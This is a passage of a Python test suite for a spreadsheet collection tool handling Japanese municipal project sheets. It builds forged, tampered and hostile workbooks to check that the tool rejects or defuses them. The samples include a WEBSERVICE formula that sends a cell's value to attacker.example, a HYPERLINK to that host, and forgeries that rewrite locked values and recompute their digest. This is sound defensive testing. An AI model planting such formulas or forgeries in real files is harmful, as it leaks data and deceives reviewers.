    def inbox_of(self, *nos: str) -> Path:
        for no in nos or NOS:
            self.put(no)
        return self.inbox

    def collect(self, *extra: str, expected: bool = True) -> list[str]:
        self.master.parent.mkdir(parents=True, exist_ok=True)
        args = ["collect", str(self.inbox), "--out", str(self.master)]
        if expected:
            args += ["--expected", str(self.base.records)]
        return args + list(extra)


@dataclass
class BookView:
    rc: int
    out: str
    err: str
    book: dict[str, list[dict]] = field(default_factory=dict)  # master book sheet → rows

    @property
    def text(self) -> str:
        rows = json.dumps(self.book, ensure_ascii=False, default=str)
        return "\n".join((self.out, self.err, rows))

    def rows(self, sheet: str) -> list[dict]:
        return self.book.get(sheet, [])

    def current_file(self, no: str) -> str | None:
        """The file 一覧 shows for project ``no``."""
        row = next((r for r in self.rows("一覧") if r.get("番号") == no), None)
        return row.get("提出ファイル") if row else None

    def status(self, no: str) -> str | None:
        row = next((r for r in self.rows("提出状況") if r.get("番号") == no), None)
        return row.get("提出状況") if row else None

    def codes(self) -> set[str]:
        return {str(r.get("コード")) for r in self.rows("指摘一覧")}


def _table(ws, header_text: str) -> list[dict]:
    rows = list(ws.iter_rows(values_only=True))
    for i, row in enumerate(rows):
        if header_text in row:
            header = [h for h in row]
            out = []
            for values in rows[i + 1:]:
                if all(v is None for v in values):
                    break
                out.append({h: v for h, v in zip(header, values, strict=False) if h is not None})
            return out
    return []


def read_book(path: Path) -> dict[str, list[dict]]:
    if not path.is_file():
        return {}
    wb = openpyxl.load_workbook(path, read_only=True)
    try:
        return {name: _table(wb[name], key) for name, key in
                (("一覧", "番号"), ("提出状況", "提出状況"), ("指摘一覧", "コード"), ("履歴", "判定"))}
    finally:
        wb.close()


# --------------------------------------------------------------------------- building hostile files


def parts_of(path: Path) -> Parts:
    return Parts(path.read_bytes())


def to_bytes(parts: Parts) -> bytes:
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as zf:
        for name, data in parts.parts.items():
            zf.writestr(name, data)
    return out.getvalue()


def meta_of(path: Path | bytes) -> dict:
    """What a workbook's _meta says (sheettool's own reader)."""
    from sheettool.check.read import read_meta
    from sheettool.xlsx.read import Book
    from sheettool.xlsx.safety import package_from_bytes

    data = path if isinstance(path, bytes) else path.read_bytes()
    return read_meta(Book(package_from_bytes("x.xlsx", data)))


def rewrite_meta(parts: Parts, values: dict[str, object]) -> None:
    """``_meta`` entries set as a department with openpyxl or a text editor would (strings inline)."""
    for key, value in values.items():
        text = value if isinstance(value, str) else meta_mod.canonical_json(value)
        parts.set_meta(key, value if isinstance(value, int) and not isinstance(value, bool) else text)


def forged_as(world: World, victim: str, forger: str = "087") -> bytes:
    """The forger's own return rewritten as project ``victim``: identity cells, _meta's project
    number, locked values and their digest all consistent — only the signature cannot follow."""
    parts = parts_of(world.base.templates[forger])
    meta = meta_of(world.base.templates[forger])
    target = seed_record(victim)
    locked = dict(meta["locked_values"])
    for key in ("project_no", "project_name", "department", "division", "section"):
        name = f"f_{key}"
        if name in locked:
            locked[name] = target[key]
            parts.string(cell_at(key), str(target[key]))
    rewrite_meta(parts, {"project_no": victim, "locked_values": locked,
                         "locked_digest": meta_mod.digest(locked)})
    return to_bytes(parts)


def history_edited(world: World, no: str) -> bytes:
    """A locked history value changed on the sheet and in _meta, the digest recomputed."""
    parts = parts_of(world.base.templates[no])
    meta = meta_of(world.base.templates[no])
    locked = dict(meta["locked_values"])
    locked["f_costs_2020_budget"] = 1
    parts.number(cell_at("costs.2020.budget"), 1)
    rewrite_meta(parts, {"locked_values": locked, "locked_digest": meta_mod.digest(locked)})
    return to_bytes(parts)


def unsigned(world: World, no: str) -> bytes:
    """The signature rows emptied (a file made to look older than signing)."""
    parts = parts_of(world.base.templates[no])
    parts.set_meta("signature", "")
    parts.set_meta("key_id", "")
    return to_bytes(parts)


def without_meta(world: World, no: str) -> bytes:
    """_meta deleted; the sheet and its defined names kept (Excel "move sheet to a new book")."""
    wb = openpyxl.load_workbook(world.base.templates[no])
    del wb["_meta"]
    out = io.BytesIO()
    wb.save(out)
    return out.getvalue()


def with_cell(no: str, path_or_ref: str, body: str, *, base: Base, t: str | None = None) -> bytes:
    parts = parts_of(base.templates[no])
    ref = path_or_ref if re.fullmatch(r"[A-Z]+\d+", path_or_ref) else cell_at(path_or_ref)
    parts.set_cell(ref, body, t=t)
    return to_bytes(parts)


def formula_in(no: str, path: str, formula: str, cached: str, *, base: Base) -> bytes:
    escaped = formula.replace("&", "&amp;").replace("<", "&lt;").replace(">", "&gt;")
    kind = "str" if not re.fullmatch(r"-?\d+(\.\d+)?", cached) else None
    return with_cell(no, path, f"<f>{escaped}</f><v>{cached}</v>", base=base, t=kind)


def core_modified(data: bytes, moment: datetime | None) -> bytes:
    """docProps/core.xml's dcterms:modified set to ``moment`` (None: the element removed)."""
    parts = Parts(data)
    text = parts.text("docProps/core.xml")
    new = "" if moment is None else (
        f'<dcterms:modified xsi:type="dcterms:W3CDTF">{moment.strftime("%Y-%m-%dT%H:%M:%SZ")}</dcterms:modified>')
    if "<dcterms:modified" in text:
        text = re.sub(r"<dcterms:modified[^>]*>[^<]*</dcterms:modified>", new, text)
    else:
        text = text.replace("</cp:coreProperties>", new + "</cp:coreProperties>")
    parts.put("docProps/core.xml", text)
    return to_bytes(parts)


def edited_input(data: bytes, text: str) -> bytes:
    """Another version of a return: 成果 typed differently (the content, and so the hash, differs)."""
    parts = Parts(data)
    parts.string(cell_at("results.achievements"), text)
    return to_bytes(parts)


def api_template(world: World, record: dict, out: Path, key) -> Path:  # noqa: ANN001
    result = generate([Item("1件目", record)], out, key=key)
    assert result.written, result.findings
    return result.written[0]


# --------------------------------------------------------------------------- part 3: outputs


def _out_in_inbox(w: World) -> list[str]:
    w.inbox_of()
    return ["collect", w.inbox, "--out", w.inbox / "088_情報通信ネットワーク運営業務.xlsx"]


def _out_is_a_submission(w: World) -> list[str]:
    target = w.put("088")
    return ["collect", w.inbox, "--out", target]


def _json_on_a_submission(w: World) -> list[str]:
    w.inbox_of()
    target = w.put("088")
    return [*w.collect(), "--json", target]


def _json_on_expected(w: World) -> list[str]:
    w.inbox_of()
    expected = w.root / "expected.json"
    shutil.copy(w.base.records, expected)
    w.protect(expected)
    return [*w.collect(expected=False), "--expected", expected, "--json", expected]


def _json_on_expected_hardlink(w: World) -> list[str]:
    w.inbox_of()
    expected = w.root / "expected.json"
    shutil.copy(w.base.records, expected)
    os.link(expected, w.root / "alias.jsonl")
    w.protect(expected)
    return [*w.collect(expected=False), "--expected", expected, "--json", w.root / "alias.jsonl"]


def _csv_in_inbox(w: World) -> list[str]:
    w.inbox_of()
    return [*w.collect(), "--csv", w.inbox / "csv"]


def _csv_over_expected(w: World) -> list[str]:
    w.inbox_of()
    folder = w.root / "csv"
    folder.mkdir()
    expected = folder / "一覧_2022.csv"
    shutil.copy(w.base.records, expected)  # JSON, whatever its name says
    w.protect(expected)
    return [*w.collect(expected=False), "--expected", expected, "--csv", folder]


def _json_is_the_master(w: World) -> list[str]:
    w.inbox_of()
    return [*w.collect(), "--json", w.master]


def _store_in_inbox(w: World) -> list[str]:
    w.inbox_of()
    return [*w.collect(), "--store", w.inbox / "store"]


def _inbox_in_store(w: World) -> list[str]:
    store = w.root / "store"
    (store / "archive").mkdir(parents=True)
    for no in NOS:
        shutil.copy(w.base.templates[no], store / w.base.templates[no].name)
    w.master.parent.mkdir(parents=True, exist_ok=True)
    return ["collect", store, "--out", w.master, "--store", store]


def _out_in_another_store(w: World) -> list[str]:
    w.inbox_of()
    other = w.root / "other.sheettool"
    with Ledger.open(other):
        pass
    w.protect(other / "ledger.sqlite3")
    return ["collect", w.inbox, "--out", other / "master.xlsx"]


def _out_through_a_symlink_into_the_inbox(w: World) -> list[str]:
    w.inbox_of()
    (w.root / "reports").symlink_to(w.inbox, target_is_directory=True)
    return ["collect", w.inbox, "--out", w.root / "reports" / "master.xlsx"]


def _generate_into_the_inbox(w: World) -> list[str]:
    # the office generates again into the folder the departments returned their files to
    for no in ("088", "089"):
        w.put(no, data=edited_input(w.base.templates[no].read_bytes(), f"{no} の成果（記入済み）"))
    return ["generate", w.base.records, "--out", w.inbox]


def _generate_twice_is_refused_per_file(w: World, out: BookView) -> None:
    written = sorted(p.name for p in w.inbox.rglob("*.xlsx"))
    assert len(written) == 6, written  # the four new ones were still written
    assert out.text.count("[G610]") == 2


def _generate_overwrite(w: World) -> list[str]:
    out = w.root / "again"
    for record in seed_records():
        path = output_path(out, record)
        path.parent.mkdir(parents=True, exist_ok=True)
        path.write_bytes(b"an older copy")
    return ["generate", w.base.records, "--out", out, "--overwrite"]


def _generate_overwrite_replaced(w: World, out: BookView) -> None:
    for record in seed_records():
        assert check_file(output_path(w.root / "again", record)).record["project_no"] == record["project_no"]
        assert output_path(w.root / "again", record).read_bytes()[:2] == b"PK"


def _generate_onto_the_records_file(w: World) -> list[str]:
    records = w.root / "records.json"
    shutil.copy(w.base.records, records)
    w.protect(records)
    return ["generate", records, "--out", records]


def _generate_into_a_store(w: World) -> list[str]:
    store = w.root / "m.sheettool"
    with Ledger.open(store):
        pass
    return ["generate", w.base.records, "--out", store / "templates"]


def _generate_over_its_master_book_source(w: World) -> list[str]:
    # generate from a master book whose name is one of the files it writes (a hard link), with --overwrite
    w.inbox_of()
    assert _cli(w.collect())[0] == 0
    out = w.root / "again"
    target = output_path(out, seed_record("088"))
    target.parent.mkdir(parents=True)
    os.link(w.master, target)
    w.protect(w.master)
    return ["generate", w.master, "--out", out, "--overwrite"]


def _import_text_onto_itself(w: World) -> list[str]:
    text = w.root / "seed.txt"
    text.write_text("令和4年度　事務事業マネジメントシート\n", encoding="utf-8")
    w.protect(text)
    return ["import-text", text, "--out", text]


def _import_text_onto_a_hard_link(w: World) -> list[str]:
    text = w.root / "seed.txt"
    text.write_text("令和4年度　事務事業マネジメントシート\n", encoding="utf-8")
    os.link(text, w.root / "records.json")
    w.protect(text)
    return ["import-text", text, "--out", w.root / "records.json"]


def _annotate_onto_a_symlink_of_the_input(w: World) -> list[str]:
    src = w.put("088")
    (w.root / "copy.xlsx").symlink_to(src)
    return ["check", src, "--annotate", w.root / "copy.xlsx"]


def _annotate_onto_the_input(w: World) -> list[str]:
    src = w.put("088")
    return ["check", src, "--annotate", src.parent / "." / src.name]


def _records_only_onto_the_source(w: World) -> list[str]:
    src = w.root / "records.json"
    shutil.copy(w.base.records, src)
    w.protect(src)
    return ["rollforward", src, "--records-only", src, "--rates", RATES_NEXT]


def _records_only_onto_the_rates(w: World) -> list[str]:
    rates = w.root / "rates.json"
    shutil.copy(RATES_NEXT, rates)
    w.protect(rates)
    return ["rollforward", w.base.records, "--records-only", rates, "--rates", rates]


def _rollforward_over_last_years_templates(w: World) -> list[str]:
    out = w.root / "next"
    shutil.copytree(w.base.root / "next", out)
    w.protect(*out.rglob("*.xlsx"))
    return ["rollforward", w.base.records, "--out", out, "--rates", RATES_NEXT]


def _nothing_new_written(w: World, out: BookView) -> None:
    assert out.text.count("[G610]") == 6


# --------------------------------------------------------------------------- part 4: forgery


def _forged_replaces_nothing(w: World) -> list[str]:
    w.inbox_of()
    w.put("088", data=forged_as(w, "088"), name="088_情報通信ネットワーク運営業務_修正版.xlsx")
    return w.collect()


def _genuine_088_stays_current(w: World, out: BookView) -> None:
    assert out.current_file("088").endswith("088_情報通信ネットワーク運営業務.xlsx")
    refused = [r for r in out.rows("提出状況") if r.get("提出状況") == "受付不可"]
    assert len(refused) == 1 and not str(refused[0]["提出ファイル"]).endswith("088_情報通信ネットワーク運営業務.xlsx")


def _forged_only_one_for_its_project(w: World) -> list[str]:
    w.inbox_of(*[n for n in NOS if n != "088"])
    w.put("088", data=forged_as(w, "088"))
    return w.collect()


def _project_shows_rejected(w: World, out: BookView) -> None:
    assert out.status("088") == "受付不可" and out.current_file("088") is not None
    listed = next(r for r in out.rows("一覧") if r["番号"] == "088")
    assert listed["提出状況"] == "受付不可"  # its figures do not enter the aggregates


def _history_rewritten(w: World) -> list[str]:
    w.inbox_of(*[n for n in NOS if n != "089"])
    w.put("089", data=history_edited(w, "089"))
    return w.collect()


def _signature_stripped(w: World) -> list[str]:
    w.inbox_of()
    w.put("088", data=unsigned(w, "088"), name="088_署名なし.xlsx")
    return w.collect()


def _meta_removed(w: World) -> list[str]:
    w.inbox_of()
    w.put("090", data=without_meta(w, "090"), name="090_meta削除.xlsx")
    return w.collect()


def _genuine_090_stays_current(w: World, out: BookView) -> None:
    assert out.current_file("090").endswith("090_基幹電算業務運営事業.xlsx")


def _another_key(w: World) -> list[str]:
    w.inbox_of(*[n for n in NOS if n != "091"])
    other = signing.load_key(w.root / "elsewhere" / "key", create=True)
    path = api_template(w, seed_record("091"), w.root / "elsewhere" / "t", other)
    w.put("091", source=path)
    return w.collect()


def _never_issued(w: World) -> list[str]:
    # signed with the office's key, but the register never heard of it (a stolen key, a lost register)
    w.inbox_of(*[n for n in NOS if n != "098"])
    key = signing.load_key()
    register = key.register_path.read_bytes()
    path = api_template(w, seed_record("098"), w.root / "side", key)
    key.register_path.write_bytes(register)  # the issue is forgotten again
    w.put("098", source=path)
    return w.collect()


def _issued_for_another_project(w: World) -> list[str]:
    w.inbox_of(*[n for n in NOS if n != "087"])
    key = signing.load_key()
    register = key.register_path.read_bytes()
    path = api_template(w, seed_record("087"), w.root / "side", key)
    signature = meta_of(path)["signature"]
    lines = key.register_path.read_text(encoding="utf-8").splitlines()
    entry = json.loads(lines[-1])
    assert entry["signature"] == signature
    entry["project_no"] = "099"
    key.register_path.write_bytes(register + (json.dumps(entry) + "\n").encode())
    w.put("087", source=path)
    return w.collect()


def _next_year_file(w: World) -> list[str]:
    w.inbox_of()
    w.put("088", source=w.base.next_year["088"], name="088_令和5年度.xlsx")
    return w.collect()


def _next_year_file_without_expected(w: World) -> list[str]:
    w.inbox_of()
    w.put("088", source=w.base.next_year["088"], name="088_令和5年度.xlsx")
    return w.collect(expected=False)


def _r4_088_current(w: World, out: BookView) -> None:
    assert out.current_file("088").endswith("088_情報通信ネットワーク運営業務.xlsx")
    row = next(r for r in out.rows("提出状況") if str(r.get("提出ファイル")).endswith("令和5年度.xlsx"))
    assert row["提出状況"] == "受付不可"


def _pre_signing_template(w: World) -> list[str]:
    record = copy.deepcopy(seed_record("088"))
    record.update(project_no="777", project_name="署名導入前の事業")
    path = api_template(w, record, w.root / "old", None)
    w.inbox_of()
    dest = w.inbox / path.name
    shutil.copy(path, dest)
    w.protect(dest)
    return w.collect(expected=False)


def _pre_signing_is_read(w: World, out: BookView) -> None:
    row = next(r for r in out.rows("一覧") if r["番号"] == "777")
    assert row["提出状況"] == "受理"


def _department_check_without_key(w: World) -> list[str]:
    return ["check", w.put("088")]  # the row's environment names a key that is not there


def _named_key_missing(w: World) -> list[str]:
    return ["check", w.put("088"), "--key", w.root / "missing.key"]


def _key_not_a_key(w: World) -> list[str]:
    bogus = w.root / "records.json"
    shutil.copy(w.base.records, bogus)
    w.protect(bogus)
    return ["generate", w.base.records, "--out", w.root / "t", "--key", bogus]


def _project_number_changed_on_the_sheet(w: World) -> list[str]:
    w.inbox_of()
    parts = parts_of(w.base.templates["087"])
    parts.string(cell_at("project_no"), "088")
    w.put("087", data=to_bytes(parts), name="087_番号を088に.xlsx")
    return w.collect()


def _genuine_087_and_088_stay(w: World, out: BookView) -> None:
    assert out.current_file("087").endswith("087_情報化推進事業.xlsx")
    assert out.current_file("088").endswith("088_情報通信ネットワーク運営業務.xlsx")


# --------------------------------------------------------------------------- part 5: active content


WEBSERVICE = '=WEBSERVICE("http://attacker.example/?"&B4)'


def _webservice_in_text(w: World) -> list[str]:
    w.inbox_of()
    w.put("088", data=formula_in("088", "results.achievements", WEBSERVICE[1:], "盗まれた値", base=w.base))
    return [*w.collect(), "--json", w.root / "out" / "m.jsonl"]


def _webservice_is_text_everywhere(w: World, out: BookView) -> None:
    lines = [json.loads(x) for x in (w.root / "out" / "m.jsonl").read_text(encoding="utf-8").splitlines()]
    record = next(r for r in lines if r["project_no"] == "088")
    assert record["results"]["achievements"] == WEBSERVICE
    wb = openpyxl.load_workbook(w.master)
    for ws in wb.worksheets:
        for row in ws.iter_rows():
            for c in row:
                assert not (c.data_type == "f" and "WEBSERVICE" in str(c.value)), (ws.title, c.coordinate)
    for csv_file in (w.root / "out" / "master_csv").glob("*.csv"):
        for row in csv.reader(io.StringIO(csv_file.read_text(encoding="utf-8-sig"))):
            assert not any(v.startswith("=") for v in row), (csv_file.name, row)


def _hyperlink_in_text(w: World) -> list[str]:
    return ["check", w.put("088", data=formula_in("088", "summary", 'HYPERLINK("http://attacker.example","詳細")',
                                                   "詳細", base=w.base)), "--json"]


def _external_reference_in_number(w: World) -> list[str]:
    return ["check", w.put("088", data=formula_in("088", "costs.2023.budget", "'[予算.xlsx]Sheet1'!$A$1",
                                                   "129129", base=w.base)), "--json"]


def _external_value_not_taken(w: World, out: BookView) -> None:
    report = json.loads(out.out)
    assert LAYOUT.get(report["record"], "costs.2023.budget") is None


def _annotate_webservice(w: World) -> list[str]:
    src = w.put("088", data=formula_in("088", "results.achievements", WEBSERVICE[1:], "盗まれた値", base=w.base))
    return ["check", src, "--annotate", w.root / "annotated.xlsx"]


def _annotated_is_inert(w: World, out: BookView) -> None:
    copy_parts = Parts((w.root / "annotated.xlsx").read_bytes())
    sheet = copy_parts.text("xl/worksheets/sheet1.xml")
    ref = cell_at("results.achievements")
    element = re.search(rf'<c r="{ref}"[^>]*>.*?</c>', sheet, re.S).group(0)
    assert "<f>" not in element and "WEBSERVICE" in element and 'inlineStr' in element
    assert "fullCalcOnLoad" not in copy_parts.text("xl/workbook.xml")
    # the template's own formulas stay formulas, with the values the department's program cached
    source = Parts(next(iter(w.protected)).read_bytes()).text("xl/worksheets/sheet1.xml")
    settlement = cell_at("costs.2021.personnel_cost")
    assert re.search(rf'<c r="{settlement}"[^>]*>.*?</c>', source, re.S).group(0).split(">", 1)[1] == \
        re.search(rf'<c r="{settlement}"[^>]*>.*?</c>', sheet, re.S).group(0).split(">", 1)[1]
    assert openpyxl.load_workbook(w.root / "annotated.xlsx").sheetnames[0] == "指摘一覧"


def _annotate_keeps_extensions(w: World) -> list[str]:
    parts = parts_of(w.base.templates["088"])
    ext = ('<extLst><ext uri="{78C0D931-6437-407d-A8EE-F0AAD7539E65}" '
           'xmlns:x14="http://schemas.microsoft.com/office/spreadsheetml/2009/9/main">'
           '<x14:conditionalFormattings/></ext></extLst>')
    parts.replace("xl/worksheets/sheet1.xml", "</worksheet>", ext + "</worksheet>")
    parts.string(cell_at("costs.2023.budget"), "たくさん")
    w.notes["ext"] = ext
    return ["check", w.put("088", data=to_bytes(parts)), "--annotate", w.root / "annotated.xlsx"]


def _extension_kept(w: World, out: BookView) -> None:
    copied = Parts((w.root / "annotated.xlsx").read_bytes())
    assert w.notes["ext"] in copied.text("xl/worksheets/sheet1.xml")
    original = Parts(next(iter(w.protected)).read_bytes())
    for name in ("xl/worksheets/sheet2.xml", "xl/worksheets/sheet3.xml", "xl/sharedStrings.xml",
                 "docProps/core.xml", "docProps/custom.xml"):
        assert copied.parts[name] == original.parts[name], name  # untouched parts byte for byte


def _changed_formula_cell(w: World) -> list[str]:
    ref = cell_at("costs.2022.settlement")
    data = with_cell("088", ref, '<f>WEBSERVICE("http://attacker.example/")</f><v>0</v>', base=w.base)
    return ["check", w.put("088", data=data), "--annotate", w.root / "annotated.xlsx"]


def _changed_formula_inert(w: World, out: BookView) -> None:
    sheet = Parts((w.root / "annotated.xlsx").read_bytes()).text("xl/worksheets/sheet1.xml")
    assert "<f>WEBSERVICE" not in sheet and "=WEBSERVICE" in sheet


def _annotate_an_annotated_copy(w: World) -> list[str]:
    # an annotated copy sent back as it is: its comments, drawing and 指摘一覧 are the department's now
    from sheettool.check.annotate import annotate

    first = w.root / "first.xlsx"
    src = w.put("088", data=with_cell("088", "costs.2023.budget", '<is><t>たくさん</t></is>', t="inlineStr",
                                      base=w.base))
    annotate(src, check_file(src), first)
    parts = Parts(first.read_bytes())
    parts.string(cell_at("costs.2024.budget"), "もっと")
    again = w.put("088", data=to_bytes(parts), name="088_再提出.xlsx")
    return ["check", again, "--annotate", w.root / "second.xlsx"]


def _comments_extended(w: World, out: BookView) -> None:
    wb = openpyxl.load_workbook(w.root / "second.xlsx")
    assert wb.sheetnames[:2] == ["指摘一覧(2)", "指摘一覧"]
    ws = wb[SHEET]
    assert "たくさん" in ws[cell_at("costs.2023.budget")].comment.text
    assert "もっと" in ws[cell_at("costs.2024.budget")].comment.text
    parts = Parts((w.root / "second.xlsx").read_bytes())
    assert sum(name.startswith("xl/comments") for name in parts.parts) == 1  # extended, not a second part


# --------------------------------------------------------------------------- part 6: the inbox


def _inbox_with(write: Callable[[Path], Path], name: str) -> Callable[[World], list[str]]:
    def setup(w: World) -> list[str]:
        w.inbox_of(*[n for n in NOS if n != "088"])
        made = write(w.root)
        dest = w.inbox / name
        dest.parent.mkdir(parents=True, exist_ok=True)
        shutil.move(made, dest)
        w.protect(dest)
        return w.collect()
    return setup


def _project_088_unreadable(w: World, out: BookView) -> None:
    assert out.status("088") == "読取不可"  # not 未提出: the department did send something


def _fifo(w: World) -> list[str]:
    w.inbox_of()
    os.mkfifo(w.inbox / "088_途中.xlsx")
    return w.collect()


def _symlink_to_a_secret(w: World) -> list[str]:
    w.inbox_of()
    secret = w.root / "secret.xlsx"
    shutil.copy(w.base.templates["091"], secret)
    data = edited_input(secret.read_bytes(), "機密")
    secret.write_bytes(data)
    w.notes["secret"] = hashlib.sha256(data).hexdigest()
    (w.inbox / "091_link.xlsx").symlink_to(secret)
    return w.collect()


def _secret_not_archived(w: World, out: BookView) -> None:
    archive = workspace_for(w.master) / "archive"
    assert not list(archive.rglob(f"{w.notes['secret']}*"))


def _symlinked_folder(w: World) -> list[str]:
    w.inbox_of(*[n for n in NOS if n != "098"])
    elsewhere = w.root / "elsewhere"
    elsewhere.mkdir()
    shutil.copy(w.base.templates["098"], elsewhere / "098.xlsx")
    (w.inbox / "linked").symlink_to(elsewhere, target_is_directory=True)
    return w.collect()


def _lock_file(w: World) -> list[str]:
    w.inbox_of()
    lock = w.inbox / "~$088_情報通信ネットワーク運営業務.xlsx"
    lock.write_bytes(b"\x08sheettool" + bytes(150))
    return w.collect()


def _leftover_temp(w: World) -> list[str]:
    w.inbox_of()
    shutil.copy(w.base.templates["088"], w.inbox / ".tmp-abc123.xlsx")
    (w.inbox / ".sheettool-xyz").mkdir()
    shutil.copy(w.base.templates["089"], w.inbox / ".sheettool-xyz" / "records.xlsx")
    return w.collect()


def _leftovers_not_submissions(w: World, out: BookView) -> None:
    assert {r["提出ファイル"] for r in out.rows("履歴")} == {
        str(p.relative_to(w.inbox)) for p in w.protected if w.inbox in p.parents}


def _os_files(w: World) -> list[str]:
    w.inbox_of()
    (w.inbox / ".DS_Store").write_bytes(b"\x00\x00\x00\x01Bud1")
    (w.inbox / "Thumbs.db").write_bytes(b"\xd0\xcf\x11\xe0")
    return w.collect()


# --------------------------------------------------------------------------- part 7: which file is newer


T_OLD = datetime(2023, 5, 10, 9, 0, tzinfo=UTC)
T_NEW = datetime(2023, 5, 20, 9, 0, tzinfo=UTC)


def _copied_old_file_with_fresh_mtime(w: World) -> list[str]:
    w.inbox_of(*[n for n in NOS if n != "088"])
    base_data = w.base.templates["088"].read_bytes()
    newer = w.put("088", data=core_modified(edited_input(base_data, "新しい版"), T_NEW), name="088_新.xlsx")
    older = w.put("088", data=core_modified(edited_input(base_data, "古い版"), T_OLD), name="088_旧.xlsx")
    # the mail client saved the old attachment last: its mtime is the newest
    os.utime(newer, (T_NEW.timestamp(), T_NEW.timestamp()))
    later = (T_NEW + timedelta(days=3)).timestamp()
    os.utime(older, (later, later))
    return w.collect()


def _saved_time_decides(w: World, out: BookView) -> None:
    assert out.current_file("088").endswith("088_新.xlsx")
    rows = [r for r in out.rows("履歴") if str(r["提出ファイル"]).rsplit("/", 1)[-1].startswith("088_")]
    assert {r["新旧の判定基準"] for r in rows} == {"ブックの保存日時"}


def _no_save_time(w: World) -> list[str]:
    w.inbox_of(*[n for n in NOS if n != "088"])
    base_data = w.base.templates["088"].read_bytes()
    first = w.put("088", data=core_modified(edited_input(base_data, "一つ目"), None), name="088_a.xlsx")
    second = w.put("088", data=core_modified(edited_input(base_data, "二つ目"), None), name="088_b.xlsx")
    os.utime(first, (T_NEW.timestamp(),) * 2)
    os.utime(second, (T_OLD.timestamp(),) * 2)
    return w.collect()


def _mtime_decides(w: World, out: BookView) -> None:
    assert out.current_file("088").endswith("088_a.xlsx")
    rows = [r for r in out.rows("履歴") if str(r["提出ファイル"]).rsplit("/", 1)[-1].startswith("088_")]
    assert {r["新旧の判定基準"] for r in rows} == {"ファイル更新日時"}


def _save_time_in_the_future(w: World) -> list[str]:
    w.inbox_of(*[n for n in NOS if n != "088"])
    base_data = w.base.templates["088"].read_bytes()
    liar = w.put("088", data=core_modified(edited_input(base_data, "未来"), datetime(2099, 1, 1, tzinfo=UTC)),
                 name="088_未来.xlsx")
    honest = w.put("088", data=core_modified(edited_input(base_data, "正直"), T_OLD), name="088_正直.xlsx")
    os.utime(liar, (T_OLD.timestamp() - 86400,) * 2)
    os.utime(honest, (T_OLD.timestamp(),) * 2)
    return w.collect()


def _future_is_not_believed(w: World, out: BookView) -> None:
    assert out.current_file("088").endswith("088_正直.xlsx")


def _version_2_store(w: World) -> list[str]:
    w.inbox_of(*[n for n in NOS if n != "088"])
    base_data = w.base.templates["088"].read_bytes()
    newer = w.put("088", data=core_modified(edited_input(base_data, "新しい版"), T_NEW), name="088_新.xlsx")
    older = w.put("088", data=core_modified(edited_input(base_data, "古い版"), T_OLD), name="088_旧.xlsx")
    os.utime(newer, (T_NEW.timestamp(),) * 2)
    os.utime(older, ((T_NEW + timedelta(days=3)).timestamp(),) * 2)
    assert _cli(w.collect())[0] == 0
    store = workspace_for(w.master)
    conn = sqlite3.connect(store / "ledger.sqlite3")
    with conn:  # as a version 2 sheettool left it: current by mtime, no save times
        old_sha = hashlib.sha256(older.read_bytes()).hexdigest()
        conn.execute("UPDATE current SET sha256 = ? WHERE project_no = '088'", (old_sha,))
        conn.execute("DROP INDEX submissions_order")
        for column in ("saved_ns", "order_ns", "order_source", "fiscal_year"):
            conn.execute(f"ALTER TABLE submissions DROP COLUMN {column}")
        conn.execute("DELETE FROM meta WHERE key LIKE 'fiscal_year%'")
        conn.execute("UPDATE meta SET value = '2' WHERE key = 'schema_version'")
        w.notes["count"] = conn.execute("SELECT count(*) FROM submissions").fetchone()[0]
    conn.close()
    return w.collect()


def _migrated_nothing_lost(w: World, out: BookView) -> None:
    conn = sqlite3.connect(workspace_for(w.master) / "ledger.sqlite3")
    try:
        assert conn.execute("SELECT value FROM meta WHERE key = 'schema_version'").fetchone() == ("3",)
        assert conn.execute("SELECT count(*) FROM submissions").fetchone()[0] == w.notes["count"]
        assert conn.execute("SELECT count(*) FROM submissions WHERE order_source = 'saved'").fetchone()[0] == 7
    finally:
        conn.close()
    _saved_time_decides(w, out)
    with Ledger.open(workspace_for(w.master)) as ledger:
        assert ledger.verify() == []


# --------------------------------------------------------------------------- part 8: rollforward


def _master_with_missing(w: World, *missing: str) -> Path:
    w.inbox_of(*[n for n in NOS if n not in missing])
    assert _cli(w.collect())[0] == 0
    w.protect(w.master)
    return w.master


def _rollforward_missing(w: World) -> list[str]:
    master = _master_with_missing(w, "090")
    return ["rollforward", master, "--records-only", w.root / "next.json"]


def _missing_is_carried(w: World, out: BookView) -> None:
    rolled = json.loads((w.root / "next.json").read_text(encoding="utf-8"))
    assert sorted(r["project_no"] for r in rolled) == sorted(NOS)
    assert "090" in out.out and "未提出" in out.out and "提出なし 1件" in out.out
    carried = next(r for r in rolled if r["project_no"] == "090")
    assert carried["fiscal_year"] == 2023 and carried["project_name"] == seed_record("090")["project_name"]


def _rollforward_unreadable(w: World) -> list[str]:
    w.inbox_of(*[n for n in NOS if n != "088"])
    legacy = badfiles.write_xls(w.root)
    dest = w.inbox / "088_情報通信ネットワーク運営業務.xls"
    shutil.move(legacy, dest)
    _cli(w.collect())
    w.protect(w.master)
    return ["rollforward", w.master, "--records-only", w.root / "next.json"]


def _unreadable_is_carried(w: World, out: BookView) -> None:
    rolled = json.loads((w.root / "next.json").read_text(encoding="utf-8"))
    assert "088" in {r["project_no"] for r in rolled} and "読取不可" in out.out


def _rollforward_without_output(w: World) -> list[str]:
    master = _master_with_missing(w)
    w.notes["before"] = sorted(p for p in w.root.rglob("*"))
    return ["rollforward", master, "--rates", RATES_NEXT]


def _nothing_written(w: World, out: BookView) -> None:
    # (SQLite's -wal/-shm files are the runner's, which reads the ledgers it finds)
    after = sorted(p for p in w.root.rglob("*") if not p.name.endswith(("-wal", "-shm")))
    assert after == [p for p in w.notes["before"] if not p.name.endswith(("-wal", "-shm"))]


def _rollforward_templates_for_missing(w: World) -> list[str]:
    master = _master_with_missing(w, "091", "098")
    return ["rollforward", master, "--out", w.root / "next", "--rates", RATES_NEXT]


def _templates_for_missing(w: World, out: BookView) -> None:
    made = {p.name.split("_")[0] for p in (w.root / "next").rglob("*.xlsx")}
    assert made == set(NOS)




# ---- the rows of parts 3–8 (World builders above), in the one table


_PART: dict[str, int] = {}  # row id → the issue's part


def _row(id: str, part: int, setup: Callable[[World], list[str]], rc: int,  # noqa: A002
         wanted: tuple[str, ...] = (), absent: tuple[str, ...] = (),
         then: Callable[[World, BookView], None] | None = None, isolated: bool = False,
         env: tuple[tuple[str, str], ...] = ()) -> Case:
    """One row: ``wanted`` holds codes (reported: printed, in a ledger or in the master book's
    指摘一覧) and text (in the output)."""
